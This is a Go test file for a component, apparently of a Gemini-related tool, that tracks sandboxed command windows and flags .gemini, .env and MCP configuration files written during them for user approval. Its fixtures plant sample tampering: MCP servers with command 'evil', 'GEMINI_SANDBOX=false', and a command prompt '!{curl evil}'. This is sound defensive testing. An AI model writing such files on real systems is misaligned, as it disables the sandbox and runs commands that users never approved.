package sandboxtrail

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gemini-ls/gemini-ls/internal/heldfile/heldtest"
)

// write makes path, with its directories, as a command would.
func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func changedFiles(t *testing.T, tr Trail, folder string, also ...string) []string {
	t.Helper()
	found, err := tr.Changed(context.Background(), folder, also)
	if err != nil {
		t.Fatalf("Changed(%s): %v", folder, err)
	}
	var out []string
	for _, f := range found {
		out = append(out, f.File)
	}
	return out
}

// A sandbox's commands write a folder's configuration below its root:
// the folder's .gemini and .env are found, its root's own .gemini (kept
// read-only by the sandbox) is not, and what was there before the window
// opened is not.
func TestWhatASandboxCouldHaveWrittenIsFound(t *testing.T) {
	tr := At(t.TempDir())
	root := canonical(t.TempDir())
	app := filepath.Join(root, "packages", "app")
	write(t, filepath.Join(root, "old", ".gemini", "settings.json"), "{}")
	time.Sleep(3 * time.Duration(slack)) // past the window's slack

	w, err := tr.Open([]string{root}, []string{root})
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(app, ".gemini", "settings.json"), `{"mcpServers": {"x": {"command": "evil"}}}`)
	write(t, filepath.Join(app, ".env"), "GEMINI_SANDBOX=false\n")
	write(t, filepath.Join(app, ".agents", "mcp_config.json"), `{"mcpServers": {"y": {"command": "evil"}}}`)
	write(t, filepath.Join(app, ".geminiignore"), "")
	write(t, filepath.Join(root, ".gemini", "settings.json"), "{}") // the user's, in the editor

	envs := []string{filepath.Join(app, ".env"), filepath.Join(root, ".env")}
	want := []string{
		filepath.Join(app, ".agents", "mcp_config.json"),
		filepath.Join(app, ".env"),
		filepath.Join(app, ".gemini", "settings.json"),
		filepath.Join(app, ".geminiignore"),
		filepath.Join(app, ".agents"),
		filepath.Join(app, ".gemini"),
	}
	if got := changedFiles(t, tr, app, envs...); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("while the window is open, found %q, want %q", got, want)
	}
	if got := changedFiles(t, tr, root); len(got) != 0 {
		t.Errorf("the root's own .gemini was found: %q", got)
	}
	if got := changedFiles(t, tr, filepath.Join(root, "old")); len(got) != 0 {
		t.Errorf("a folder changed before the window was found: %q", got)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if entries, _ := os.ReadDir(filepath.Join(tr.dir, liveDir)); len(entries) != 0 {
		t.Errorf("the closed window's record is still live: %v", entries)
	}
	if got := changedFiles(t, tr, app, envs...); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("after the window closed, found %q, want %q", got, want)
	}

	// The user's yes covers what is there now, not what changes after,
	// even at once: within the coarse clock's tick.
	time.Sleep(2 * time.Duration(tick)) // the user reads the question
	if err := tr.Accept(app); err != nil {
		t.Fatal(err)
	}
	if got := changedFiles(t, tr, app, envs...); len(got) != 0 {
		t.Errorf("accepted, still found %q", got)
	}
	if err := os.RemoveAll(filepath.Join(app, ".agents")); err != nil {
		t.Fatal(err)
	}
	w2, err := tr.Open([]string{root}, []string{root})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	write(t, filepath.Join(app, ".gemini", "commands", "x.toml"), `prompt = "!{curl evil}"`)
	want = []string{filepath.Join(app, ".gemini", "commands", "x.toml"), filepath.Join(app, ".gemini"), filepath.Join(app, ".gemini", "commands")}
	if got := changedFiles(t, tr, app, envs...); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("changed after the yes, found %q, want %q", got, want)
	}
}

// The user's yes covers what changed before it, not what changed within
// a tick of it: the kernel's coarse clock can date a change made just
// after the yes before it.
func TestTheYesCoversOnlyWhatChangedATickBefore(t *testing.T) {
	yes := time.Now()
	for _, c := range []struct {
		changed time.Time
		want    bool
	}{
		{yes.Add(-time.Second), true},
		{yes.Add(-2 * time.Duration(tick)), true},
		{yes.Add(-time.Duration(tick) / 2), false},
		{yes, false},
		{yes.Add(time.Millisecond), false},
	} {
		if got := covered(c.changed, yes); got != c.want {
			t.Errorf("a change %v from the yes: covered %v, want %v", c.changed.Sub(yes), got, c.want)
		}
	}
	if covered(yes, time.Time{}) {
		t.Error("no yes covers a change")
	}
}

// The window a file falls in, by its change time: the slack on either
// side, an open window from its start on, paths outside the writable
// ones and in a root's .gemini passed over.
func TestWindowOf(t *testing.T) {
	sep := string(filepath.Separator)
	root := sep + "r"
	ws := []Window{
		{Writable: []string{root}, Roots: []string{root}, From: 100 * slack, To: 200 * slack},
		{Writable: []string{sep + "open"}, From: 500 * slack},
	}
	for _, c := range []struct {
		path string
		at   int64
		want bool
	}{
		{root + sep + "a" + sep + ".env", 150 * slack, true},
		{root + sep + "a" + sep + ".env", 100*slack - slack, true},
		{root + sep + "a" + sep + ".env", 100*slack - slack - 1, false},
		{root + sep + "a" + sep + ".env", 200*slack + slack, true},
		{root + sep + "a" + sep + ".env", 200*slack + slack + 1, false},
		{root + sep + ".gemini" + sep + "settings.json", 150 * slack, false},
		{root + sep + ".env", 150 * slack, true},
		{sep + "elsewhere" + sep + ".env", 150 * slack, false},
		{sep + "open" + sep + "a" + sep + ".env", 1 << 62, true},
		{sep + "open" + sep + "a" + sep + ".env", 400 * slack, false},
	} {
		if _, _, got := windowOf(ws, c.path, c.at); got != c.want {
			t.Errorf("windowOf(%s, %d) = %v, want %v", c.path, c.at, got, c.want)
		}
	}
}

// Merging only widens: every moment of every window is in a merged one
// over the same paths, and windows over other paths stay apart.
func TestMergeOnlyWidens(t *testing.T) {
	a, b := []string{filepath.FromSlash("/a")}, []string{filepath.FromSlash("/b")}
	h := int64(time.Hour)
	ws := []Window{
		{Writable: a, From: 0, To: h},
		{Writable: b, From: h / 2, To: 2 * h},
		{Writable: a, From: 3 * h, To: 4 * h},   // within the gap of the first
		{Writable: a, From: 20 * h, To: 21 * h}, // beyond it
		{Writable: a, Roots: a, From: 0, To: h},
	}
	got := merge(append([]Window(nil), ws...), mergeGap)
	if len(got) != 4 {
		t.Fatalf("merged into %d windows, want 4: %+v", len(got), got)
	}
	for _, w := range ws {
		for _, at := range []int64{w.From, w.To} {
			if _, _, ok := windowOf(got, filepath.Join(w.Writable[0], "x"), at); !ok {
				t.Errorf("a change at %d in %v is in no merged window", at, w.Writable)
			}
		}
	}
}

// A close past compactAt merges the closed windows first: the file
// shrinks, and what it held is still covered.
func TestClosedWindowsAreCompacted(t *testing.T) {
	tr := At(t.TempDir())
	w := strconv.Quote(filepath.FromSlash("/w"))
	var b strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&b, `{"writable":[%s],"roots":[%s],"from":%d,"to":%d}`+"\n", w, w, int64(i)*int64(time.Minute), int64(i)*int64(time.Minute)+1)
	}
	path := filepath.Join(tr.dir, closedFile)
	write(t, path, b.String())
	if err := tr.appendClosed(context.Background(), []Window{{Writable: []string{"/v"}, From: 1, To: 2}}); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if info.Size() > compactAt {
		t.Errorf("the closed windows were not compacted: %d bytes", info.Size())
	}
	ws, err := tr.Windows(context.Background(), time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if len(ws) != 2 {
		t.Errorf("compacted into %d windows, want 2 (one per writable set)", len(ws))
	}
	for _, at := range []int64{0, 1999 * int64(time.Minute), 3999*int64(time.Minute) + 1} {
		if _, _, ok := windowOf(ws, filepath.FromSlash("/w/x"), at); !ok {
			t.Errorf("a change at %d is in no window after compaction", at)
		}
	}
}

// A last line being appended is passed over; a damaged one is an error,
// not an empty trail.
func TestAClosedWindowsFileThatDoesNotParse(t *testing.T) {
	tr := At(t.TempDir())
	path := filepath.Join(tr.dir, closedFile)
	write(t, path, `{"writable":["/w"],"from":1,"to":2}`+"\n"+`{"writable":["/w"],"fr`)
	ws, err := tr.Windows(context.Background(), time.Now())
	if err != nil || len(ws) != 1 {
		t.Errorf("with a line being appended: %+v, %v; want the one before it", ws, err)
	}
	write(t, path, "not json\n")
	if _, err := tr.Changed(context.Background(), t.TempDir(), nil); err == nil || !strings.Contains(err.Error(), path) {
		t.Errorf("a damaged trail read as %v, want an error naming %s", err, path)
	}
}

const holdWindowEnv = "SANDBOXTRAIL_TEST_HOLD_WINDOW"

// A window whose process died without closing it is closed by the next
// reader, as of when it looks, and recorded so; while the process lives
// it stays open.
func TestAWindowLastsAsLongAsItsProcess(t *testing.T) {
	heldtest.Child(holdWindowEnv, func(dir string) (string, error) {
		_, err := At(dir).Open([]string{"/w"}, nil)
		return "open", err
	})
	tr := At(t.TempDir())
	_, kill := heldtest.Start(t, "TestAWindowLastsAsLongAsItsProcess", holdWindowEnv, tr.dir)
	ws, err := tr.Windows(context.Background(), time.Now())
	if err != nil || len(ws) != 1 || ws[0].To != 0 {
		t.Fatalf("a live process's window: %+v, %v; want one, open", ws, err)
	}
	kill()
	now := time.Now()
	ws, err = tr.Windows(context.Background(), now)
	if err != nil || len(ws) != 1 || ws[0].To != now.UnixNano() {
		t.Fatalf("a killed process's window: %+v, %v; want one, closed at %d", ws, err, now.UnixNano())
	}
	if entries, _ := os.ReadDir(filepath.Join(tr.dir, liveDir)); len(entries) != 0 {
		t.Errorf("the dead window is still live: %v", entries)
	}
	if ws, err = tr.closed(); err != nil || len(ws) != 1 || ws[0].To != now.UnixNano() {
		t.Errorf("the dead window was not recorded closed: %+v, %v", ws, err)
	}
}

// A root's own .gemini, which its sandbox keeps read-only, is not walked,
// however large; a folder's below the root is, within a bound, and one
// past it is an error, not a folder taken as unchanged.
func TestOnlyWhatAWindowCouldHaveWrittenIsWalked(t *testing.T) {
	tr := At(t.TempDir())
	root := canonical(t.TempDir())
	app := filepath.Join(root, "app")
	for _, dir := range []string{root, app} {
		if err := os.MkdirAll(filepath.Join(dir, ".gemini", "many"), 0o755); err != nil {
			t.Fatal(err)
		}
		for i := range maxEntries {
			if err := os.WriteFile(filepath.Join(dir, ".gemini", "many", fmt.Sprint(i)), nil, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	w, err := tr.Open([]string{root}, []string{root})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if found, err := tr.Changed(context.Background(), root, nil); err != nil || len(found) != 0 {
		t.Errorf("the root's own .gemini: %v, %v; want it not walked", found, err)
	}
	if _, err := tr.Changed(context.Background(), app, nil); err == nil || !strings.Contains(err.Error(), "more than 4096 entries") {
		t.Errorf("a .gemini past the bound below the root: %v, want an error saying so", err)
	}
}
